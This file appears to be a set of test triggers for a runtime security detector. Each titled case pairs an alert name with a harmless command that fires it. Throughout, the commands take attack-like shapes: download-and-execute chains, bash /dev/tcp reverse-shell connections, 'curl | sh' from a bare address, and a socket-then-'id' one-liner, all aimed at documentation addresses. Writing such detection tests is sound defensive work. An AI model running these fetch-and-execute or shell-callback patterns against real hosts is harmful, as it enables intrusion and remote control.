## Downloaded file executed
#also Executable run from a scratch folder
#also File in a scratch folder made executable by hand
#also Program in a scratch folder made executable, then run
#also Transfer tool given a bare private address and a scratch folder
#setup web
curl -s -o /tmp/x http://10.9.8.7:8000/true; chmod +x /tmp/x; /tmp/x
## File dropped and executed in a container
#also Suspicious Process Execution
#in shop:1
mkdir -p /srv/x; python3 -c 'import shutil; shutil.copy("/bin/true", "/srv/x/x")'; /srv/x/x
## Shell connects to the network
#also Reverse shell by bash's own network
bash -c ': > /dev/tcp/203.0.113.9/443'
## Outbound connection from a container to the internet
#also Connection to a port of mining pools
#also Suspicious Process Execution
#in shop:1
#setup listener 4444
/opt/lab/connect tcp4 203.0.113.9 4444
## Download tool in a container
#also Suspicious Process Execution
#in shop:1
curl -s http://10.9.8.7/
## Program in a scratch folder connects out
#also Executable run from a scratch folder
#setup cp /opt/lab/connect /tmp/agent
/tmp/agent tcp4 203.0.113.9 443
## Hidden program connects out
#also Hidden executable
#setup mkdir -p /home/ann/.cache; cp /opt/lab/connect /home/ann/.cache/.thumbd
/home/ann/.cache/.thumbd tcp4 203.0.113.9 443
## Code without a file asks for a name of the internet
#setup refuse_names; rm -f /etc/resolv.conf; echo 'nameserver 10.9.8.1' > /etc/resolv.conf
python3 -c 'import socket
try: socket.create_connection(("update.example", 80))
except OSError: pass'
## Code without a file connects to the internet and runs commands
#also Code without a file connects to an address without a name
perl -MIO::Socket::INET -e 'IO::Socket::INET->new("203.0.113.9:443"); system "id; :"'
## Code without a file waits for callers
timeout 1 python3 -c 'import socket; socket.create_server(("", 2022)).accept()'
## Commands fetched from an unusual place
#also Download run without being looked at
#also Transfer tool given a bare address
curl -s -m 1 http://203.0.113.9/a.sh | sh
## Transfer tool given a bare address
curl -s -m 1 http://203.0.113.9/
## Port of encrypted connections used without encryption
#also Code without a file connects to an address without a name
#setup listener 443
python3 -c 'import socket; s = socket.create_connection(("203.0.113.9", 443), 2); s.send(b"own")'
## Encrypted connection of an untrusted program without a server's name
#also Code on a command line encodes or encrypts what it sends
#also Code without a file connects to an address without a name
#setup listener 8443
timeout 2 python3 -c 'import socket, ssl; c = ssl._create_unverified_context(); c.wrap_socket(socket.create_connection(("203.0.113.9", 8443)))'
## Second channel opened by an untrusted program
#also Code without a file connects to an address without a name
#also Code without a file connects to an unusual port of an address without a name
#setup listener 80; listener 4445
python3 -c 'import socket
for port in (80, 4445): socket.create_connection(("203.0.113.9", port), 2)'
## Controllers of an untrusted program tried on several ports
#also Reverse shell by bash's own network
#also Shell connects to the network
bash -c 'for port in 8531 8532 8533; do : < /dev/tcp/203.0.113.9/$port; done; :'
## Port of a proxy on the internet used by a command
#setup listener 1080
ALL_PROXY=socks5://203.0.113.9:1080 curl -s -m 1 http://shop.example/
## Message broker on the internet used by an untrusted program
perl -MIO::Socket::INET -e 'IO::Socket::INET->new("203.0.113.9:1883")'
## Internet and inner network joined by an untrusted program
#also Code without a file connects to an address without a name
python3 -c 'import socket
for host in ("203.0.113.9", "10.9.8.7"): socket.socket().connect_ex((host, 80))'
## Server's name left aside by a transfer tool
curl -s -m 1 --connect-to shop.example:80:203.0.113.9:80 http://shop.example/
## Code on a command line encodes or encrypts what it sends
python3 -c 'import base64, socket; socket.socket().connect_ex(("10.9.8.7", 80)); base64.b64encode(b"x")'
